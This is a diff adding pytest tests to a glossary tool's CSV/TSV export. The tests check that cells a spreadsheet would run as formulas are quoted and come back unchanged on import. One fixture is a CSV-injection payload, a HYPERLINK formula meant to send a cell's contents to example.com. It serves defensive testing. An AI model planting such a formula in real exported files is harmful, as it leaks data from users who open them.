@@ -3,9 +3,12 @@
 from __future__ import annotations
 
 import codecs
+import csv
+import io
 from pathlib import Path
 
 import pytest
+from translate.storage.csvl10n import csvunit
 from translate.storage.omegat import OmegaTFile as omegatfile
 from translate.storage.tbx import tbxfile
 
@@ -57,6 +60,50 @@ def test_a_hand_made_csv_with_other_column_names_and_separators(tmp_path: Path) 
 def test_a_semicolon_csv_from_a_european_excel(tmp_path: Path) -> None:
     data = codecs.BOM_UTF8 + "arabic;english;note\nجيش;army;\"the army; any\"\n".encode()
     assert read_csv(tmp_path, "terms.csv", data) == [GlossaryEntry("جيش", ("army",), note="the army; any")]
+
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV injection"), in every column, and cells that already
+#: begin with the quote that neutralises them.
+FORMULA_LIKE = [
+    GlossaryEntry("=حلب", ('=HYPERLINK("http://example.com/?leak="&A1,"Aleppo")',), note="+ the city"),
+    GlossaryEntry("إدلب", ("-ism", "Idlib"), note="@mention", forbidden=("=1+1",)),
+    GlossaryEntry("@جيش", ("+army",), note="-1 is not a term", forbidden=("-troops", "forces")),
+    GlossaryEntry("'=مسبوق", ("'=already quoted", "x"), note="''-two quotes", forbidden=("'",)),
+    GlossaryEntry("'حماة", ("'Hama",), note="a quote before an ordinary letter stays"),
+]
+
+
+@pytest.mark.parametrize("delimiter", [",", "\t"])
+def test_cells_a_spreadsheet_would_run_as_formulas_are_quoted(delimiter: str) -> None:
+    """Read back by the csv module: no cell begins with =, +, -, @, a tab or a carriage return; those that did
+    carry one quote more, as translate-toolkit escapes formulas for spreadsheets too."""
+    data = write_glossary_csv([*FORMULA_LIKE, GlossaryEntry("حمص", ("Homs",), note="\tindented\rnote")], delimiter)
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert rows[1] == ["'=حلب", '\'=HYPERLINK("http://example.com/?leak="&A1,"Aleppo")', "'+ the city", ""]
+    assert rows[2] == ["إدلب", "'-ism; Idlib", "'@mention", "'=1+1"]
+    assert rows[4] == ["''=مسبوق", "''=already quoted; x", "'''-two quotes", "'"]
+    assert rows[5] == ["'حماة", "'Hama", "a quote before an ordinary letter stays", ""]
+    assert rows[6][2] == "'\tindented\rnote"
+    spreadsheet = csvunit()  # translate-toolkit's escaping of the four formula characters
+    originals = [FORMULA_LIKE[0].source, FORMULA_LIKE[0].targets[0], FORMULA_LIKE[1].note, "-troops; forces"]
+    assert [spreadsheet.add_spreadsheet_escape(cell) for cell in originals] == [
+        rows[1][0], rows[1][1], rows[2][2], rows[3][3]]
+
+
+@pytest.mark.parametrize("name", ["terms.csv", "terms.tsv"])
+def test_quoted_formula_cells_import_back_as_they_were(tmp_path: Path, name: str) -> None:
+    """Import takes off exactly the quote export put on, so export → import gives every entry back unchanged,
+    including one that itself began with quotes."""
+    mine = tmp_path / "mine.tarjama-glossary"
+    with Glossary.create(mine) as glossary:
+        glossary.import_entries(FORMULA_LIKE)
+    export_glossary(mine, tmp_path / name)
+    other = tmp_path / "other.tarjama-glossary"
+    assert import_glossary(other, tmp_path / name).added == len(FORMULA_LIKE)
+    with Glossary.open(other) as glossary:
+        assert [GlossaryEntry(e.source, e.targets, e.note, e.forbidden) for e in glossary.entries()] == FORMULA_LIKE
 
 
 def test_excel_unicode_text_and_windows_arabic(tmp_path: Path) -> None:
